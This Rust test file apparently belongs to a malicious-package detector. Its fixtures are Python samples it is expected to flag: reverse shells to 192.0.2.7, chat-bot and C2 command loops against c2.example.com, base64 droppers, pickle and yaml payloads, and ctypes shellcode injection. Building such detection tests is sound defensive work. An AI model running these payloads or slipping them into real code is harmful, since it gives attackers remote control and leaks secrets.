//! Shells and programs brought along, in ever other ways.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn remote_control() {
    convicted(66, &[
        ("r1", &[
            ("demo/__init__.py", br#"import socket,os,pty
s=socket.socket()
s.connect(('192.0.2.7',4444))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn('/bin/sh')
"#),
        ]),
        ("r2", &[
            ("demo/__init__.py", br#"import socket,subprocess
s=socket.socket()
s.connect(('192.0.2.7',4444))
while True:
    c=s.recv(1024).decode()
    o=subprocess.getoutput(c)
    s.send(o.encode())
"#),
        ]),
        ("r3", &[
            ("demo/__init__.py", br#"import socket,subprocess
s=socket.socket()
s.connect(('192.0.2.7',4444))
subprocess.Popen(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)
"#),
        ]),
        ("r4", &[
            ("demo/__init__.py", br#"import asyncio,subprocess
async def m():
    r,w=await asyncio.open_connection('192.0.2.7',4444)
    while True:
        c=(await r.readline()).decode()
        p=await asyncio.create_subprocess_shell(c,stdout=asyncio.subprocess.PIPE)
        o,_=await p.communicate()
        w.write(o)
asyncio.run(m())
"#),
        ]),
        ("r5", &[
            ("demo/__init__.py", br#"import os
os.system('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')
"#),
        ]),
        ("r6", &[
            ("demo/__init__.py", br#"import socket,subprocess,threading
s=socket.socket()
s.connect(('192.0.2.7',4444))
p=subprocess.Popen(['cmd.exe'],stdin=subprocess.PIPE,stdout=subprocess.PIPE)
def a():
    while 1: p.stdin.write(s.recv(1024)); p.stdin.flush()
def b():
    while 1: s.send(p.stdout.read(1))
threading.Thread(target=a).start()
threading.Thread(target=b).start()
"#),
        ]),
        ("r10", &[
            ("demo/__init__.py", br#"import socket,subprocess,os
def shell():
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
    s.connect(('192.0.2.7',4444))
    while True:
        data=s.recv(1024)
        p=subprocess.Popen(data.decode(),shell=True,stdout=subprocess.PIPE,stderr=subprocess.PIPE)
        s.send(p.stdout.read())
shell()
"#),
        ]),
        ("a49", &[
            ("demo/__init__.py", br#"import pty,socket,os
s=socket.create_connection(('192.0.2.7',4444))
for f in range(3): os.dup2(s.fileno(),f)
pty.spawn('sh')"#),
        ]),
        ("a50", &[
            ("demo/__init__.py", br#"exec("import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.7',1));os.dup2(s.fileno(),0);subprocess.call(['sh','-i'])")"#),
        ]),
        ("a68", &[
            ("demo/__init__.py", br#"import requests,time,subprocess,threading
def beat():
    while True:
        t=requests.get('https://c2.example.com/t').json()
        o=subprocess.run(t['cmd'],shell=True,capture_output=True)
        requests.post('https://c2.example.com/r',data=o.stdout)
        time.sleep(9)
threading.Thread(target=beat,daemon=True).start()"#),
        ]),
    ]);
}

#[test]
fn bots() {
    convicted(
        40,
        &[
            (
                "r7",
                &[(
                    "demo/__init__.py",
                    br#"import telebot,os
b=telebot.TeleBot('0:VOID')
@b.message_handler(func=lambda m: True)
def h(message):
    b.send_message(message.chat.id, os.popen(message.text).read())
b.polling()
"#,
                )],
            ),
            (
                "r8",
                &[(
                    "demo/__init__.py",
                    br#"import discord,subprocess
c=discord.Client(intents=discord.Intents.all())
@c.event
async def on_message(message):
    o=subprocess.check_output(message.content,shell=True)
    await message.channel.send(o.decode())
c.run('VOID')
"#,
                )],
            ),
            (
                "a65",
                &[(
                    "demo/__init__.py",
                    br#"from telethon import TelegramClient, events
import os
c=TelegramClient('s',1,'VOID')
@c.on(events.NewMessage)
async def h(event):
    r=os.popen(event.raw_text).read()
    await event.reply(r)
c.start()"#,
                )],
            ),
            (
                "a66",
                &[(
                    "demo/__init__.py",
                    br#"import websocket,subprocess
def on_message(ws,message):
    ws.send(subprocess.getoutput(message))
ws=websocket.WebSocketApp('ws://192.0.2.7:80',on_message=on_message)
ws.run_forever()"#,
                )],
            ),
            (
                "r9",
                &[(
                    "demo/__init__.py",
                    br#"import requests,os,time
while True:
    c=requests.get('https://c2.example.com/cmd').text
    requests.post('https://c2.example.com/out',data=os.popen(c).read())
    time.sleep(5)
"#,
                )],
            ),
        ],
    );
}

#[test]
fn installs_by_itself() {
    convicted(
        40,
        &[
            (
                "dl6",
                &[(
                    "demo/__init__.py",
                    br#"import os
os.system('pip install https://c2.example.com/x.tar.gz')
"#,
                )],
            ),
            (
                "dl7",
                &[(
                    "demo/__init__.py",
                    br#"import subprocess,sys
subprocess.check_call([sys.executable,'-m','pip','install','git+https://c2.example.com/x'])
"#,
                )],
            ),
        ],
    );
}

#[test]
fn carried_programs() {
    convicted(40, &[
        ("a51", &[
            ("demo/__init__.py", br#"import os,base64
open('/tmp/.x.py','wb').write(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwczovL2MyLmV4YW1wbGUuY29tL3h8c2gnKQo='))
os.system('python3 /tmp/.x.py &')"#),
        ]),
        ("a52", &[
            ("demo/__init__.py", br#"import subprocess,sys,base64
subprocess.Popen([sys.executable,'-c',base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=').decode()])"#),
        ]),
        ("a53", &[
            ("demo/__init__.py", br#"import os,base64,tempfile,subprocess
p=os.path.join(tempfile.gettempdir(),'u.exe')
with open(p,'wb') as f: f.write(base64.b64decode('TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJA='))
subprocess.Popen(p)"#),
        ]),
        ("a55", &[
            ("demo/__init__.py", br#"import pickle,base64
pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydjdXJsIGh0dHBzOi8vYzIuZXhhbXBsZS5jb20veHxzaCcKdFIu'))"#),
        ]),
        ("a56", &[
            ("demo/__init__.py", br#"import yaml
yaml.load("!!python/object/apply:os.system ['curl https://c2.example.com/x|sh']",Loader=yaml.Loader)"#),
        ]),
        ("m7", &[
            ("demo/__init__.py", br#"import ctypes
b=b'\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52\x51\x56\x48\x31\xd2\x65\x48\x8b\x52\x60'
k=ctypes.windll.kernel32
p=k.VirtualAlloc(0,len(b),0x3000,0x40)
k.RtlMoveMemory(p,b,len(b))
k.CreateThread(0,0,p,0,0,0)
"#),
        ]),
        ("m8", &[
            ("demo/__init__.py", br#"import ctypes
k=ctypes.windll.kernel32
h=k.OpenProcess(0x1F0FFF,False,1234)
p=k.VirtualAllocEx(h,0,100,0x3000,0x40)
k.WriteProcessMemory(h,p,b'C:\\a.dll',9,0)
k.CreateRemoteThread(h,None,0,k.GetProcAddress(k.GetModuleHandleA(b'kernel32.dll'),b'LoadLibraryA'),p,0,0)
"#),
        ]),
        ("a47", &[
            ("demo/__init__.py", br#"import ctypes,urllib.request
b=urllib.request.urlopen('https://c2.example.com/s.bin').read()
k=ctypes.windll.kernel32
k.VirtualAlloc.restype=ctypes.c_void_p
p=k.VirtualAlloc(0,len(b),0x3000,0x40)
ctypes.memmove(p,b,len(b))
ctypes.CFUNCTYPE(ctypes.c_int)(p)()"#),
        ]),
    ]);
}
